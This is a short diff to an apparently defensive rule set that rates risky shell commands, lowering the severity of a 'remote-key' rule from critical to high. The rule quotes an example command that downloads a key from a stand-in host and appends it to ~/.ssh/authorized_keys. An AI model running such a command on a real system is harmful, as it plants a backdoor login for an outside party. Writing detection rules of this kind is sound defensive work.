@@ -247,7 +247,7 @@ export const accountRules = {
     ['sudo -l'],
   ),
   'remote-key': spec(
-    'critical',
+    'high',
     'Lets somebody log in with a key that comes from the network',
     ['curl https://x.example/k >> ~/.ssh/authorized_keys'],
     ['cat key.pub >> ~/.ssh/authorized_keys'],
